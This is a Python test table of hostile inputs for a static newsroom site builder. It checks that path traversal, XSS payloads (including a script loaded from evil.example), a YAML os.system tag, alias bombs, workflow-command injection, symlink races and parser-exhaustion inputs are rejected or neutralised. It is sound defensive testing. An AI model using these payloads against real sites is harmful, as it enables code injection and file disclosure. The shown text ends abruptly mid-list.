"""The table of hostile input: what is tried, what comes of it, which rules say so.

Every row is tried in a newsroom with one good article, and with a second, faulty one where an error is
expected, so that the report can be seen to be complete. What must hold in every row, whatever it
tries, is in ``watch.py``.
"""

from __future__ import annotations

import shutil
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any, Literal

from tests.factories import article
from tests.hostile.making import (
    HOSTILE,
    UNPUBLISHED,
    XMP,
    after_the_survey,
    all_of,
    animated,
    before_copying,
    beside,
    body,
    denied,
    doubled,
    file,
    folder,
    gone,
    header,
    held,
    link,
    listening,
    located_picture,
    nested,
    page,
    picture,
    pipe,
    png_of,
    raw_name,
    scan_bomb,
    setting,
    shows,
    swapped,
    switched,
    template,
    theme,
    when_opened,
    yaml,
)

if TYPE_CHECKING:
    from tests.hostile.making import Make, Tamper


@dataclass(frozen=True)
class Row:
    """One attempt.

    ``outcome``: ``built``; ``error``, faults in the content (exit code 1); ``config error``, nothing was
    even tried (exit code 2). ``rules`` are all rules that are reported, errors and warnings. ``absent`` may
    be nowhere in the built site, ``present`` must be somewhere in the hostile story's page, ``said`` in
    what the editor reads. ``seconds`` is the time limit for one file; ``alone`` leaves the faulty article out.
    """

    name: str
    make: Make
    outcome: Literal["built", "error", "config error"]
    rules: str = ""
    absent: tuple[str, ...] = ()
    present: tuple[str, ...] = ()
    said: tuple[str, ...] = ()
    tamper: Tamper | None = None
    output: str = "output"
    config: str | bytes | None = None
    seconds: float = 5.0
    alone: bool = False
    page: str = "articles/hostile/index.html"


N = 20_000
RTL = "\u0645\u0631\u062d\u0628\u0627"
FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467"
MARKS = "{path} {0.__class__} {} %s %(x)s %n {{ 7919*7907 }} {% include 'base.html' %}"
PNG = picture("PNG")
RESERVED = (
    "settings content metadata context _context template url save_as status_code is_valid get_content "
    "translations source_path override_url files"
).split()

# fmt: off
HEADERS = [
    Row("a header names a place to write to", header(save_as="../../escaped.html"), "error", "reserved-field"),
    *(
        Row(f"a header field is called {key}, as an attribute of Pelican's objects", header(**{key: "x"}), "error", "reserved-field")
        for key in RESERVED
    ),
    Row("an id climbs out of the output folder", header(id="../../escaped"), "error", "bad-name"),
    Row("an id is an absolute path", header(id="/tmp/escaped"), "error", "bad-name"),
    Row("an id is two dots", header(id=".."), "error", "bad-name"),
    Row("an id is percent-encoded", header(id="%2e%2e%2fescaped"), "error", "bad-name"),
    Row("an id is a Windows device", header(id="con"), "error", "bad-name", said=("con-",)),
    Row("an id has three hundred letters", header(id="a" * 300), "error", "bad-name"),
    Row("an id is that of the list pages", header(id="page"), "built", page="articles/page/index.html"),
    Row("a notice has the id of the list pages", file("notices/page.md", article(失效="2026-04-01")), "built", page="notices/page/index.html"),
    Row("a slug climbs out", header(slug="a/../../b"), "error", "bad-name"),
    Row("a standing page wants the address of the page for broken links", page("a.md", id="404.html"), "error", "same-url"),
    Row("a standing page wants the address of the notices", page("notices.md"), "error", "same-url", said=("/notices/",)),
    Row("a standing page wants the theme's folder", page("theme.md"), "error", "same-url", said=("theme/",)),
    Row("a cover climbs out", header(配图="../../secret.png"), "error", "image-alt outside-link"),
    Row("a cover is an absolute path", header(配图="/etc/passwd"), "error", "file-missing image-alt"),
    Row("a cover is on another server", header(配图="https://evil.example/x.jpg"), "error", "file-missing image-alt"),
    Row("a cover is a program", header(配图="javascript:alert(1)"), "error", "file-missing image-alt"),
    Row("a cover is an article", header(配图="articles/neighbour.md"), "error", "file-missing image-alt"),
    Row("an old address climbs out", header(别名="../../../tmp/escaped、..\\..\\escaped.html"), "built"),
    Row("an old address is on another server", header(别名="https://evil.example/a/b"), "built", absent=("evil.example",)),
    Row("an old address is the home page", header(别名="/"), "error", "same-url", said=("/",)),
    Row("an old address is the home page's file", header(别名="index.html"), "error", "same-url"),
    Row("an old address is the neighbour's", header(别名="/articles/neighbour/"), "error", "same-url", said=("neighbour.md",)),
    Row("an old address is the story's own", header(别名="/articles/hostile/"), "built"),
    Row("an old address is the style sheet", header(别名="/theme/style.css"), "error", "same-url"),
    Row("an old address lies below another", header(别名="x.html、x.html/y.html"), "error", "same-url"),
    Row("there are thousands of old addresses", header(别名="、".join(f"old/{n}" for n in range(5000))), "error", "wrong-shape"),
    Row("old addresses on thousands of lines", file(HOSTILE, "".join(f"别名：old/{n}\n" for n in range(300)) + article()), "error", "wrong-shape"),
    Row("tags climb out", header(标签="../../../etc/passwd、..、.、/、\\、%2e%2e"), "built"),
    Row("tags are what a file system or a shell would act on", header(标签="con、NUL、a:b、$(id)、`id`、*、?、~、-rf"), "built"),
    Row("there are thousands of tags", header(标签="、".join(f"标签{n}" for n in range(5000))), "error", "wrong-shape"),
    Row("there are thousands of authors", header(作者="、".join(f"作者{n}某" for n in range(5000))), "error", "wrong-shape"),
    Row("there are thousands of pinned stories", header(相关="、".join(f"no{n}" for n in range(5000))), "error", "wrong-shape"),
    Row("a person's name is a path", header(作者="../../../etc/passwd、..a"), "error", "person-is-file"),
    Row("a person's name climbs out", header(作者="甲/../../../乙、..a"), "built"),
    Row("a person's name is a script", header(作者="<script>alert(1)</script>"), "error", "bad-person"),
    Row("a person's unit is a script", header(作者="周某(<script>alert</script>)"), "built", absent=("<script>",), present=("&lt;script&gt;",)),
    Row("columns climb out", all_of(*(file(f"articles/{n}.md", article(栏目=name)) for n, name in enumerate(("..", ".", "/", "\\", "../..", "a/../../b", "%2e%2e%2f", "🏮", "con", "!")))), "built", page="articles/1/index.html"),
    Row("columns differ in case and width only", all_of(header(栏目="English"), file("articles/b.md", article(栏目="ＥＮＧＬＩＳＨ"))), "error", "same-column-slug", said=("hostile.md", "English")),
    Row("titles, tags, people and columns that sound alike", all_of(*(file(f"articles/{title}.md", article(标题=title, 栏目=column, 标签=tag, 作者=person)) for title, column, tag, person in (("施工通知", "通知", "事件", "李丽"), ("时公通知", "通至", "实践", "李莉"), ("重庆来客", "同志", "时间", "黎丽")))), "built", present=("通知", "通至", "事件", "实践", "李丽", "李莉"), page=".linli.json"),
    Row("lists of one story a page, and names that end in numbers", all_of(*(file(f"articles/{n}.md", article(标题=f"第{n}篇稿", 标签="标签1" if n < 7 else "标签16、标签1-page-6")) for n in range(9)), setting(DEFAULT_PAGINATION=1)), "built", page="tags/标签1/index.html"),
    Row("a series climbs out", header(系列="../..", 序号="1"), "built"),
    Row("a series ends far away", header(系列="长跑", 序号="999"), "built", "series-gap"),
    Row("a series ends beyond the horizon", header(系列="长跑", 序号="2000"), "error", "bad-number"),
    Row("a language breaks out of its attribute", header(语言='en" onload="alert(1)'), "error", "bad-language"),
    Row("a source's address is a program", header(原文链接="javascript:alert(1)"), "error", "bad-url"),
    Row("a source's address breaks out of its attribute", header(原文链接='https://a.example/"onclick=alert(1)'), "error", "bad-url"),
    Row("a source's address carries a password", header(原文链接="https://user:pass@a.example/"), "error", "bad-url"),
    Row("a source's address has an impossible port", header(原文链接="https://a.example:99999999/"), "error", "bad-url"),
    Row("a pin climbs out", header(相关="../../secret.md"), "error", "unknown-story"),
    Row("a story is pinned to itself", header(相关="hostile"), "built"),
    Row("a title of thousands of letters", header(标题="长" * 5000), "error", "too-long"),
    Row("a date after the end of time", header(日期="9999-12-31 23:59"), "error", "impossible-date"),
    Row("a date of enormous digits", header(日期="2026-03-" + "9" * 5000), "error", "bad-date"),
    Row("a number of enormous digits", header(系列="一", 序号="9" * 5000), "error", "bad-number"),
    Row("a year before all years", header(版权年份="0000"), "error", "bad-number"),
    Row("a field twice, in two languages", file(HOSTILE, "标题：一\ntitle: 二\n" + article(标题=None)), "error", "duplicate-field"),
    Row("a field twice, in two widths", file(HOSTILE, "status：草稿\nＳＴＡＴＵＳ：发布\n" + article()), "error", "duplicate-field"),
    Row("a status in Cyrillic letters", file(HOSTILE, "ѕtаtuѕ：草稿\n" + article()), "error", "unknown-field-close", said=("status",)),
    Row("a draft as another generator writes it", file(HOSTILE, "draft: true\n" + article()), "error", "unknown-field-close"),
    Row("a status that is none", header(状态="差不多好了"), "error", "bad-choice"),
    Row("a status in the middle of a source", file(HOSTILE, article().replace("来源：测试邻里", "来源：测试邻里\n    状态：草稿")), "error", "header-indent source-without-origin"),
    Row("a status below an empty line", file(HOSTILE, article("状态：草稿\n\n正文。")), "error", "field-in-body"),
    Row("a header line without a colon", file(HOSTILE, "标题：一\n没有冒号\n" + article(标题=None)), "error", "header-line"),
    Row("ten thousand unknown fields", file(HOSTILE, "".join(f"k{n}：v\n" for n in range(7000)) + article()), "error", "too-slow", seconds=0.3),
    Row("a header without an end", file(HOSTILE, article().replace("\n\n", "\n" + "    x\n" * N)), "error", "header-too-large"),
]

BOMB = "\n".join(["摘要: &a [x,x]", *(f"k{n}: &b{n} [*a,*a,*a,*a,*a,*a,*a,*a,*a]" for n in range(9))])
YAML = [
    Row("aliases that unfold to a gigabyte", yaml(BOMB), "error", "yaml-feature"),
    Row("an alias of an anchor", yaml("副题: &a 停水\n摘要: *a"), "error", "yaml-feature", said=("&a",)),
    Row("an alias that contains itself", yaml("标签: &a [*a]"), "error", "yaml-feature"),
    Row("a merge key", yaml("<<: {标题: 别的}"), "error", "yaml-feature", said=("<<",)),
    Row("a merge key inside a value", yaml("配图:\n  <<: {src: x}"), "error", "yaml-feature"),
    Row("a tag that runs a command", yaml("副题: !!python/object/apply:os.system ['touch /tmp/owned']"), "error", "yaml-feature"),
    Row("a tag for bytes", yaml("副题: !!binary aGk="), "error", "yaml-feature"),
    Row("a tag before the whole header", file(HOSTILE, "---\n!!map {标题: 一}\n---\n\n正文。\n"), "error", "yaml-feature"),
    Row("a directive that renames tags", file(HOSTILE, "---\n%TAG ! tag:evil.example,2026:\n标题: 一\n---\n\n正文。\n"), "error", "yaml"),
    Row("a directive of a version to come", file(HOSTILE, "---\n%YAML 9.9\n标题: 一\n---\n\n正文。\n"), "error", "yaml"),
    Row("ten thousand keys", yaml("\n".join(f"k{n}: v" for n in range(9000))), "error", "header-too-large"),
    Row("lists in lists in lists", yaml("标签: " + "[" * 5000), "error", "header-deep"),
    Row("mappings in mappings", yaml("配图:" + "".join("\n" + " " * n + "a:" for n in range(1, 200))), "error", "header-deep"),
    Row("a key that is a list", yaml("? [a, b]\n: c"), "error", "header-shape"),
    Row("an indent by a tab", yaml("配图:\n\tsrc: images/a.jpg"), "error", "yaml-tab"),
    Row("a second document after the first, with the status in it", yaml("--- # more\n状态: 草稿"), "error", "header-shape"),
    Row("a header in braces, and the status after it", file(HOSTILE, "---\n{标题: 一, 日期: 2026-03-20}\n状态: 草稿\n---\n\n正文。\n"), "error", "yaml"),
    Row("a status that YAML takes for the end of the line above", yaml("来源: 某报\n 状态：草稿"), "error", "header-indent source-without-origin"),
    Row("a key twice", yaml("状态: 草稿\n状态: 已发布"), "error", "duplicate-field"),
    Row("a key twice inside a value", yaml("配图:\n  src: images/a.jpg\n  src: images/b.jpg"), "error", "duplicate-field"),
    Row("a title that is a list", yaml("标题: [一, 二]"), "error", "wrong-shape"),
    Row("a title that is a mapping", yaml("标题: {a: b}"), "error", "wrong-shape"),
    Row("a title that is nothing", yaml("标题: ~"), "error", "missing-field"),
    Row("a status that is a list of two", yaml("状态: [草稿, 已发布]"), "error", "wrong-shape"),
    Row("a quote that never closes", yaml('副题: "没有完'), "error", "yaml"),
    Row("a quote that closes too early", yaml('副题: "邻里节"开幕'), "error", "yaml-quote", said=("邻里节",)),
    Row("twenty thousand quotes", yaml("副题: " + '"甲"' * 20_000), "error", "yaml-quote"),
    Row("a notice whose lines look like a header", file(HOSTILE, "时间：3月22日\n地点：榆树里\n联系人：沈禾\n\n请互相转告。\n"), "error", "no-header"),
    Row("a status below a picture without quotes", yaml("配图: ![甲](x.jpg)\n状态: 快好了"), "error", "bad-choice"),
    Row("a fence that never closes", file(HOSTILE, "---\n标题: 一\n\n正文。\n"), "error", "header-open"),
    Row("controls and overrides written as escapes", yaml(r'标题: "a\0b\x08c\u202ed\uFDD0e\L"'), "built", "control-character", present=("abcde",)),
    Row("half a surrogate pair written as an escape", yaml(r'标题: "a\ud800b"'), "built", "control-character", present=("ab",)),
    Row("numbers, truths and dates that would change when read", yaml("标题: 0731\n副题: yes\n摘要: 1_000"), "built", present=("0731", "yes", "1_000")),
]

CHARACTERS = [
    Row("an empty file", file(HOSTILE, b""), "error", "empty-file"),
    Row("a byte order mark and nothing else", file(HOSTILE, b"\xef\xbb\xbf"), "error", "empty-file"),
    Row("spaces and nothing else", file(HOSTILE, " \n\t\n\u3000\n"), "error", "empty-file"),
    Row("a header and nothing else", file(HOSTILE, article("")), "error", "empty-body"),
    Row("a header without a line end", file(HOSTILE, article("").strip()), "error", "empty-body"),
    Row("a fence and nothing else", file(HOSTILE, "---"), "error", "header-open"),
    Row("two fences and nothing else", file(HOSTILE, "---\n---\n"), "error", "empty-body missing-field"),
    Row("three fences", file(HOSTILE, "---\n---\n---\n"), "error", "missing-field"),
    Row("a text without a header", file(HOSTILE, "今天上午，榆树里的电梯通了。\n"), "error", "no-header"),
    Row("the line ends of old Macs", file(HOSTILE, article("第一段。\n\n第二段。").replace("\n", "\r")), "built", present=("<p>第一段。</p>", "<p>第二段。</p>")),
    Row("line ends of every kind", file(HOSTILE, article("一。\n\n二。").replace("\n\n", "\r\n\r").replace("：", "：\t")), "built", present=("<p>一。", "二。</p>")),
    Row("no line end at the end", file(HOSTILE, article("完了").rstrip()), "built", present=("<p>完了</p>",)),
    Row("a byte order mark before the header", file(HOSTILE, "\ufeff" + article()), "built"),
    Row("byte order marks inside", file(HOSTILE, "\ufeff" + article("一\ufeff二")), "built", "control-character", present=("一二",)),
    Row("GB18030", file(HOSTILE, article().encode("gb18030")), "error", "encoding", said=("GB18030", "iconv")),
    Row("UTF-16", file(HOSTILE, article().encode("utf-16")), "error", "encoding", said=("UTF-16",)),
    Row("UTF-16 without a mark", file(HOSTILE, article("plain " * 99).encode("utf-16-le")), "error", "encoding", said=("UTF-16",)),
    Row("UTF-32", file(HOSTILE, article().encode("utf-32")), "error", "encoding"),
    Row("bytes of no encoding", file(HOSTILE, article().encode() + b"\xff\xfe\xff\x80"), "error", "not-utf8"),
    Row("a picture called .md", file(HOSTILE, PNG), "error", "not-utf8"),
    Row("a program called .md", file(HOSTILE, b"\x7fELF" + bytes(4000)), "error", "encoding"),
    Row("a NUL in the title", header(标题="停\0水"), "built", "control-character", present=("停水",)),
    Row("a backspace in the title", header(标题="停\b水"), "built", "control-character"),
    Row("an override in title, tag, name and text", file(HOSTILE, article("正\u202e文", 标题="停\u202e水", 标签="甲\u2066乙", 作者="周\u202d岚")), "built", "control-character", present=("停水", "甲乙", "周岚")),
    Row("zero-width spaces in a key", file(HOSTILE, "sta\u200btus: 草稿\n" + article()), "built", "control-character", absent=("hostile",), page="index.html"),
    Row("invisible joiners in a key", header(**{"sta\u200dtus": "草稿"}), "error", "unknown-field-close"),
    Row("noncharacters, as the reader's own marks are", body("[甲](neighbour.md) \ufdd00\ufdd1 \ufdd09999\ufdd1 \uffff \U0010ffff"), "built", "control-character"),
    Row("line separators of other scripts", body("一\u2028二\u2029三\x85四\x0b五\x0c六"), "built", "control-character", present=("一二三四五六",)),
    Row("a title of which nothing can be seen", header(标题="\u200d\u00ad\u200e\ufe0f"), "error", "missing-field"),
    Row("a title of one combining mark", header(标题="\u0301"), "error", "missing-field"),
    Row("a thousand combining marks on one letter", body("a" + "\u0301" * 1000), "built"),
    Row("a tag of which nothing can be seen", header(标签="\u200d、可见"), "built", present=("可见",)),
    Row("text from right to left", file(HOSTILE, article(RTL, 标题=RTL)), "built", present=(RTL,)),
    Row("a family of joined emoji stays together", file(HOSTILE, article(FAMILY, 标题=f"一家{FAMILY}")), "built", present=(FAMILY,)),
    Row("characters beyond the first plane", file(HOSTILE, article("𠮷野家𠀀", 标题="𠮷𠀀", 标签="𠮷")), "built", present=("𠮷野家𠀀",)),
    Row("references to forbidden characters", body("甲&#0;乙&#8;丙&#x202e;丁&#xFDD0;戊&#xD800;己&#1114111;庚"), "built", "control-character"),
    Row("references written with many zeros", body("<div>&#x00000FDD0;0&#x00000FDD1; &#0000008238;甲</div>"), "built", "control-character"),
    Row("references that grow together when others are removed", body("<div>&#&#0;xFDD0;5&#&#0;xFDD1; &#x20&#0;2e;甲</div>"), "built", "control-character"),
    Row("references by name", body("<p title='&ZeroWidthSpace;'>甲&ZeroWidthSpace;乙&NoBreak;丙</p>"), "built", "control-character"),
    Row("a reference of five thousand digits", body("甲&#" + "9" * 5000 + ";乙&#x" + "f" * 5000 + ";丙"), "built", page="articles/hostile/index.html"),
    Row("escapes for a terminal in a key", header(**{"\x1b[31mkey\x1b[0m": "x"}), "error", "control-character unknown-field"),
    Row("a workflow command in a value", header(状态="::error file=x::owned\u2028::set-output"), "error", "bad-choice control-character"),
    Row("marks of templates and formats in every field", header(标题=MARKS, 副题=MARKS, 作者="周岚", 来源=MARKS, 摘要=MARKS, 标签=MARKS.replace(" ", "_"), 栏目="{column} %s", 电头=MARKS, 更正=f"2026-03-21 {MARKS}"), "built", "source-without-origin", absent=("62615533", "&lt;class", "<class"), present=("{{ 7919*7907 }}", "{path}")),
    Row("marks of templates in a text", body("{{ 7919*7907 }} {% include 'base.html' %} {# 注 #} {{ page.__class__ }}"), "built", absent=("62615533", "ArticleView"), present=("{{ 7919*7907 }}", "{# 注 #}")),
    Row("marks of formats in what messages quote", header(日期=MARKS, 作者="{0}", 状态=MARKS, 语言=MARKS, 序号=MARKS, 编号=MARKS, 原文链接=MARKS, **{"{path} {0.x}": "%s"}), "error", "bad-choice bad-date bad-language bad-name bad-number bad-person bad-url unknown-field", said=("{path} {0.x}", "{0.__class__}")),
    Row("HTML in every field", header(标题="<script>alert(1)</script>", 副题="<img src=x onerror=alert(1)>", 来源="<b>", 摘要='"><svg onload=alert(1)>', 标签="<i>", 系列="<u>", 序号="1", 栏目="<s>", 电头="<a href=javascript:x>", 版权="<script>", 更正="2026-03-21 <iframe>"), "built", "source-without-origin", present=("&lt;script&gt;alert(1)&lt;/script&gt;",)),
]

FILES = [
    Row("a folder called x.md", folder("articles/x.md"), "built", page="index.html"),
    Row("a pipe called .md", pipe("articles/hostile.md"), "error", "not-a-file"),
    Row("a pipe called .jpg", pipe("articles/hostile.jpg"), "error", "not-a-file"),
    Row("a socket called .md", listening("articles/s.md"), "error", "not-a-file"),
    Row("a link to a device that never ends", link(HOSTILE, "/dev/zero"), "error", "outside"),
    Row("a link to the terminal", link(HOSTILE, "/dev/stdin"), "error", "outside"),
    Row("a link to a file outside", link(HOSTILE, "../../secret.md"), "error", "outside"),
    Row("a link to the passwords", link(HOSTILE, "/etc/passwd"), "error", "outside"),
    Row("a link to a file beside, by its absolute path", all_of(file("other.md", article(标题="另一篇")), lambda paper: (paper.content / HOSTILE).symlink_to(paper.content / "other.md")), "built"),
    Row("a link to a link to the outside", all_of(link("articles/inner", "../../secret.md"), link(HOSTILE, "inner")), "error", "outside"),
    Row("a link to a folder outside", link("articles/more", "../../secret"), "error", "outside"),
    Row("a link to a folder inside", link("more", "articles"), "error", "folder-link"),
    Row("a link to the folder it is in", link("articles/more", "."), "error", "folder-link"),
    Row("a link to itself", link(HOSTILE, "hostile.md"), "error", "unreadable"),
    Row("two links to each other", all_of(link(HOSTILE, "b.md"), link("articles/b.md", "hostile.md")), "error", "unreadable"),
    Row("a link to nothing", link(HOSTILE, "nowhere.md"), "error", "unreadable"),
    Row("a picture that is a link to the outside", all_of(link("images/x.png", "../../secret.png"), body("![图](images/x.png)")), "error", "outside-link"),
    Row("a picture that is a link to itself", all_of(link("images/x.png", "x.png"), body("![图](images/x.png)")), "error", "asset-unreadable"),
    Row("a hidden file is shown", all_of(file(".secret.png", PNG), body("![图](../.secret.png)")), "error", "file-missing"),
    Row("a file of the version control is linked", all_of(file(".git/config.txt", "x"), body("[x](../.git/config.txt)")), "error", "link-missing"),
    Row("an article that may not be read", header(), "error", "unreadable", tamper=denied("hostile.md")),
    Row("a picture that may not be read", shows("x.png", PNG), "error", "asset-unreadable", tamper=denied("x.png")),
    Row("an article that vanishes after it was seen", header(), "error", "unreadable", tamper=after_the_survey(gone(HOSTILE))),
    Row("an article that becomes a link to the outside after it was seen", header(), "error", "outside", tamper=after_the_survey(swapped(HOSTILE, "../../secret.md"))),
    Row("an article that becomes a pipe after it was seen", header(), "error", "not-a-file", tamper=after_the_survey(all_of(gone(HOSTILE), pipe(HOSTILE)))),
    Row("an article that becomes a link in the moment it is opened", header(), "error", "outside", tamper=when_opened(HOSTILE, swapped(HOSTILE, "../../secret.md"))),
    Row("an article that grows beyond the limit", all_of(header(), setting(LINLI_FILE_LIMIT=1)), "error", "file-too-large", tamper=after_the_survey(body("长" * 2000))),
    Row("a picture that vanishes before it is copied", shows("x.png", PNG), "config error", tamper=before_copying(gone("images/x.png")), said=("x.png",)),
    Row("a picture that becomes a link before it is copied", shows("x.png", PNG), "config error", tamper=before_copying(swapped("images/x.png", "../../secret.png"))),
    Row("a file of thirty megabytes", file(HOSTILE, article("长" * 500_000)), "error", "file-too-large"),
    Row("eleven hundred folders in each other", nested(1100), "built", page="articles/deep/index.html"),
    Row("a path longer than the system can name", nested(21, "d" * 200), "error", "unreadable"),
    Row("a name of 255 bytes", file(f"articles/{'长' * 84}.md", article()), "error", "bad-file-name"),
    Row("a name of 200 bytes", file(f"articles/{'a' * 197}.md", article()), "built", page=f"articles/{'a' * 120}/index.html"),
    Row("a name that is no text", raw_name(b"a\xff\xfe.md"), "error", "bad-file-name"),
    Row("a name with a line break and a workflow command", raw_name(b"a\n::error::owned\x1b[31m.md"), "error", "bad-file-name"),
    Row("a name with an override", file("articles/a\u202edm.md", article()), "error", "bad-file-name"),
    Row("a name of punctuation", file("articles/！！！.md", article()), "error", "bad-file-name"),
    Row("a name with a backslash", file("articles/a\\b.md", article()), "error", "bad-file-name"),
    Row("a name that is percent-encoded", file("articles/%2e%2e%2fx.md", article()), "built", page="articles/2e-2e-2fx/index.html"),
    Row("a name that is HTML", file("articles/\"><script>alert(1)<'.md", article()), "built", page="articles/script-alert-1/index.html"),
    Row("a name with dots and spaces at its end", file("articles/x. . .md", article()), "built", page="articles/x/index.html"),
    Row("a name that is a Windows device", file("articles/CON.md", article()), "built", page="articles/con-/index.html"),
    Row("a name that begins with a dot", file("articles/.hostile.md", article(标题="看不见QX")), "built", absent=("看不见QX",), page="index.html"),
    Row("a name as an editor's backup has it", file("articles/hostile.md~", article(标题="看不见QX")), "built", absent=("看不见QX",), page="index.html"),
    Row("names that differ in case", all_of(header(), file("articles/HOSTILE.md", article())), "error", "same-url", said=("hostile.md", "HOSTILE.md")),
    Row("names that differ in width", all_of(header(), file("articles/ｈｏｓｔｉｌｅ.md", article())), "error", "same-url"),
    Row("names that differ in how an accent is written", all_of(file("articles/caf\u00e9.md", article()), file("articles/cafe\u0301.md", article())), "error", "same-url"),
    Row("names that differ in their suffix", all_of(header(), file("articles/hostile.markdown", article())), "error", "same-url"),
    Row("one name in two folders", all_of(header(), file("articles/b/hostile.md", article())), "error", "same-url", said=("b/hostile.md",)),
    Row("an id in two articles, in two cases", all_of(header(id="lift-1"), file("articles/b.md", article(编号="LIFT-1"))), "error", "same-id"),
    Row("reStructuredText that includes a file", file("articles/x.rst", ".. include:: /etc/passwd\n"), "error", "not-markdown"),
    Row("an article in HTML", file("articles/x.html", "<script>alert(1)</script>"), "error", "not-markdown"),
    Row("no article at all", all_of(gone("articles/neighbour.md"), file("readme.txt", "x")), "error", "no-content", alone=True),
]

SLOW = [
    Row("twenty thousand opening brackets", body("[" * N), "error", "too-slow", seconds=0.3),
    Row("twenty thousand pictures begun", body("![" * N), "error", "too-slow", seconds=0.3),
    Row("twenty thousand tags begun", body("<a " * N), "error", "too-slow", seconds=0.3),
    Row("twenty thousand links to nowhere", body("".join(f"[a](b{n}.md) " for n in range(N))), "error", "too-slow", seconds=0.3),
    Row("twenty thousand links to the web", body("".join(f"[a](https://a.example/{n})\n" for n in range(N))), "built", "language-missing"),
    Row("a thousand links to this site that lead nowhere", body("".join(f"[a](/b{n}) " for n in range(1000))), "error", "link-missing language-missing"),
    Row("addresses begun and never ended", body("<http://" * N), "error", "too-slow", seconds=0.3),
    Row("one footnote named five thousand times", body("[^1] " * 5000 + "\n\n[^1]: x"), "error", "too-slow", seconds=0.3),
    Row("three thousand tables of contents", body("[TOC]\n\n" * 3000 + "\n\n".join(f"## h{n}" for n in range(3000))), "error", "too-slow", seconds=0.3),
    Row("five thousand quotes in each other", body("> " * 5000 + "a"), "error", "too-deep"),
    Row("half a million spaces", body("汉" + " " * 500_000 + "字"), "error", "too-slow", seconds=0.3),
    Row("a table of fifty thousand rows", body("|a|b|\n|--|--|\n" + "|c|d|\n" * 50_000), "error", "too-slow", seconds=0.3),
    Row("twenty thousand divs in each other", body("<div>" * N), "error", "too-deep"),
    Row("two hundred quotes in each other", body("> " * 200 + "a"), "error", "too-deep"),
    Row("a list of a hundred levels", body("\n".join("    " * n + "1. a" for n in range(100))), "error", "too-deep"),
    Row("tables in tables", body("<table><tr><td>" * 3000), "error", "too-deep"),
    Row("foreign elements in each other", body("<svg><math>" * 3000), "error", "too-deep"),
    Row("divs closed by tags that close nothing", body("<div></x>" * 3000), "error", "too-deep"),
    Row("divs closed where a parser does not look", body("<div><object></div></object>" * 300), "error", "too-deep html-removed"),
    Row("divs closed inside of attributes", body("<div title='</div>'>" * 300), "error", "too-deep"),
    Row("forgotten ends that a parser mends in every paragraph", body("<p>" + "".join(f"<b title={n}>" for n in range(100)) + "</p><p>x" * 3000), "error", "too-deep"),
    Row("forgotten ends hidden in attributes", body("<p>" + "".join(f"<b title='</b>{n}'>" for n in range(100)) + "</p>" + "<p>x</p>" * 3000), "error", "too-deep"),
    Row("twenty thousand asterisks", body("*" * N), "built"),
    Row("ten thousand emphases begun", body("*a " * 10_000), "built", "language-missing"),
    Row("ten thousand backticks", body("`" * 10_000 + "a"), "built"),
    Row("twenty thousand quotation marks", body('"' * N), "built"),
    Row("twenty thousand ampersands", body("&" * N), "built"),
    Row("twenty thousand less-than signs", body("<" * N), "built", absent=("<<",)),
    Row("twenty thousand backslashes", body("\\" * N), "built"),
    Row("a line of a hundred thousand characters", body("长" * 100_000), "built"),
    Row("a word of a hundred thousand letters", body("a" * 100_000), "built"),
    Row("a heading of ten thousand marks", body("#" * 10_000 + " a"), "built"),
    Row("five thousand fences", body("```\n" * 5001), "built"),
    Row("a block of code that never closes", body("```html\n<script>alert(1)</script>\n\n后面的话"), "built", "html-removed", present=("后面的话",)),
    Row("a footnote that names itself", body("一[^1]\n\n[^1]: 二[^1]"), "built"),
    Row("footnotes that name each other", body("一[^1]\n\n[^1]: 二[^2]\n\n[^2]: 三[^1]"), "built"),
    Row("link names that name each other", body("[a][b] [b][a]\n\n[a]: neighbour.md\n[b]: https://a.example/"), "built"),
    Row("a link name defined by itself", body("[a]: [a]\n\n[a]"), "error", "link-missing"),
    Row("links in links in links", body("[" * 200 + "a" + "](neighbour.md)" * 200), "built", "language-missing"),
    Row("a table of a thousand columns", body("|" + "a|" * 1000 + "\n|" + "-|" * 1000 + "\n|" + "b|" * 1000), "built", "language-missing"),
    Row("ten thousand pictures without a source", all_of(file("images/x.png", PNG), body("![图](images/x.png)\n\n" + "<img>" * 10_000)), "built", absent=("<img>",)),
    Row("a figure that never closes", body("::: 图 images/x.png\n图说: 一"), "error", "file-missing figure-open image-alt"),
    Row("a figure with unknown lines", body("::: 图 images/x.png\nonload: alert(1)\n:::"), "error", "figure-line file-missing image-alt"),
    Row("a figure that is a program", body(f"::: 图 javascript:{'alert(6177)'}\n替代文字: 图\n:::"), "built", "link-scheme", absent=("alert(6177)",)),
    Row("a block of code in a language that is HTML", body('```"><script>alert(6177)</script>\nx\n```\n\n``` {.x onclick="alert(6177)" style="color:red"}\nx\n```'), "built", "html-removed", absent=("<script>alert",)),
    Row("a box whose class and title are HTML", body('!!! note evil" onclick="x "<script>alert(6177)</script>"\n    二'), "built", "html-removed", absent=("<script>alert",)),
    Row("a heading that is HTML, in a table of contents", body("[TOC]\n\n## <script>alert(6177)</script>甲\n\n## linli-main\n\n## 乙 <img src=x onerror=alert(6177)>"), "error", "file-missing html-removed image-alt"),
    Row("attributes given to a heading", body("## 标题 {: onclick=alert(1) style=color:red id=linli-main class=evil }\n\n正文。"), "built", "html-removed", absent=("onclick", "color:red", "evil")),
]

SCRIPT = "alert(6177)"
HTML = [
    Row("a script", body(f"一\n\n<script>{SCRIPT}</script>\n\n二"), "built", "html-removed", absent=(SCRIPT,), present=("<p>一</p>", "<p>二</p>")),
    Row("a script with a slash for a space", body(f"一 <script/src=//evil.example/x.js></script> 二\n\n<SCRIPT\n>{SCRIPT}</SCRIPT\n>"), "built", "html-removed", absent=(SCRIPT, "evil.example")),
    Row("a script inside of a script", body(f"<scr<script>x</script>ipt>{SCRIPT}</script>"), "built", "html-removed"),
    Row("a script that never closes", body(f"一\n\n<script>{SCRIPT}\n\n二"), "built", "html-removed", absent=(SCRIPT,)),
    Row("a frame", body('<iframe src="https://evil.example/"></iframe>二'), "built", "html-removed", absent=("evil.example",)),
    Row("objects and plugins", body('<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y"><applet code=x></applet>二'), "built", "html-removed", absent=("evil.example",)),
    Row("a drawing that runs", body(f'<svg onload="{SCRIPT}"><script>{SCRIPT}</script><a xlink:href="javascript:{SCRIPT}"><text>二</text></a></svg>'), "built", "html-removed", absent=(SCRIPT,)),
    Row("a drawing that hides a style that hides a picture", body(f'<svg></p><style><a id="</style><img src=1 onerror={SCRIPT}>">二'), "error", "file-missing html-removed image-alt tag-left-open"),
